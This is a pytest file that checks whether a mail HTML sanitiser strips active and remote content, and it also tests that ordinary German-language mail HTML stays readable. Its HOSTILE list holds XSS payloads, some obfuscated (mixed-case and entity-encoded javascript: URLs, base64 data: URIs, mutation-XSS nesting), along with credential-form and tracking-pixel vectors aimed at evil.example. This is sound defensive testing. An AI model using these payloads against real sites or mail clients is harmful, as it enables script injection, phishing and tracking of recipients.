"""The mail HTML sanitiser (nh3) against the usual attack and tracking vectors."""

from __future__ import annotations

import pytest

from web.mail_html import sanitise_mail_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    '<a href="javascript:alert(1)">a</a>',
    '<a href="JaVaScRiPt:alert(1)">a</a>',
    '<a href=" javascript:alert(1)">a</a>',
    '<a href="&#106;avascript:alert(1)">a</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/"><input name="pw"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/b)}</style>",
    '<div style="background:url(https://evil.example/bg)">x</div>',
    '<img srcset="https://evil.example/a.png 1x">',
    '<img src="https://evil.example/pixel.gif" width="1" height="1">',
    '<img src="//evil.example/pixel.gif">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<p onclick="alert(1)" onmouseover="alert(1)">x</p>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
]


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_active_or_remote_survives(html):
    cleaned = sanitise_mail_html(html).html.lower()
    for needle in (
        "<script",
        "onerror",
        "onload",
        "onclick",
        "onmouseover",
        "javascript:",
        "vbscript:",
        "<iframe",
        "<object",
        "<embed",
        "<form",
        "<meta",
        "<base",
        "<link",
        "<style",
        "style=",
        "evil.example",
        "data:text/html",
        "data:image/svg",
    ):
        assert needle not in cleaned, (needle, cleaned)


def test_ordinary_mail_html_stays_readable():
    html = (
        "<p>Sehr geehrte Damen und Herren,</p><ul><li><b>Förderung</b></li></ul>"
        '<table><tr><td colspan="2">Zelle</td></tr></table><blockquote>Zitat</blockquote>'
        '<a href="https://www.thueringen.de/">Landesportal</a> <a href="mailto:info@gemeinde.de">Mail</a>'
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="Logo">'
    )
    result = sanitise_mail_html(html)
    assert result.blocked_images == 0
    for kept in (
        "<b>Förderung</b>",
        'colspan="2"',
        "<blockquote>",
        'href="https://www.thueringen.de/"',
        'href="mailto:info@gemeinde.de"',
        'rel="noopener noreferrer nofollow"',
        'alt="Logo"',
    ):
        assert kept in result.html


def test_remote_images_only_on_request_and_counted():
    html = '<img src="https://bilder.example/logo.png" alt="Logo"><img src="http://bilder.example/x.gif">'
    blocked = sanitise_mail_html(html)
    assert blocked.blocked_images == 2 and "bilder.example" not in blocked.html
    shown = sanitise_mail_html(html, allow_remote_images=True)
    assert shown.blocked_images == 0 and 'src="https://bilder.example/logo.png"' in shown.html
